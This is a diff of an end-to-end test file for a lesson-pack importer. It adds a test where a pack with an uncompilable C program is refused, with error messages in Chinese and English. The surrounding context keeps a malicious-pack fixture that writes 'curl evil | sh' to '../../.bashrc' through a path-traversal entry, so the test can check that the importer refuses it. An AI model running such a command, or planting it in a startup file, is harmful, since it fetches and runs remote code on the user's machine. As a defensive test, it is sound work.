@@ -29,6 +29,21 @@ writeFileSync(
     '../../.bashrc': new TextEncoder().encode('curl evil | sh\n')
   })
 )
+// A pack whose first program does not compile (`size` is never declared): the validator alone
+// accepted it, `memory-lane pack validate` did not; the app's import now runs the same check.
+const brokenCPack = join(packs, 'broken-c.mlpack')
+const brokenCFiles = readPackFolder(
+  join(import.meta.dirname, '../shared/lessons/fixtures/sample-pack')
+)
+brokenCFiles.set(
+  'first-malloc.en.md',
+  new TextEncoder().encode(
+    new TextDecoder()
+      .decode(brokenCFiles.get('first-malloc.en.md'))
+      .replace('  char *p = malloc(24);', '  char *p = size;')
+  )
+)
+writeFileSync(brokenCPack, writeMlpack(brokenCFiles))
 
 /** Imports the sample pack with the file picker (replacing it when a test already did). */
 async function importSamplePack(page: Page): Promise<void> {
@@ -178,7 +193,25 @@ test('a malicious pack is refused with its reason and nothing is installed', asy
     '课程包中含有指向包外的路径（“../../.bashrc”），已拒绝导入。'
   )
   await screenshot(page, 'lessons-malicious-refused-zh-CN')
+  // A program that does not compile: where it is (file:line:column, line 4 of the program is
+  // line 19 of the lesson), in the learner's language around the compiler's own words.
+  const notDeclared = '`size` is not declared. Declare it before using it.'
+  await pane.getByTestId('pack-file').setInputFiles(brokenCPack)
+  await expect(pane.getByTestId('pack-message')).toContainText(
+    '课程包“broken-c.mlpack”被拒绝导入：'
+  )
+  await expect(pane.getByTestId('pack-message')).toContainText(
+    `first-malloc.en.md:19:13: C 程序无法编译：${notDeclared}`
+  )
   await page.getByTestId('language').selectOption('en')
+  await pane.getByTestId('pack-file').setInputFiles(brokenCPack)
+  await expect(pane.getByTestId('pack-message')).toContainText(
+    `The pack “broken-c.mlpack” was refused:`
+  )
+  await expect(pane.getByTestId('pack-message')).toContainText(
+    `first-malloc.en.md:19:13: the C program does not compile: ${notDeclared}`
+  )
+  await screenshot(page, 'lessons-broken-c-refused')
 })
 
 test('an instructor authors a pack in a folder and sees each save checked', async ({ app }) => {
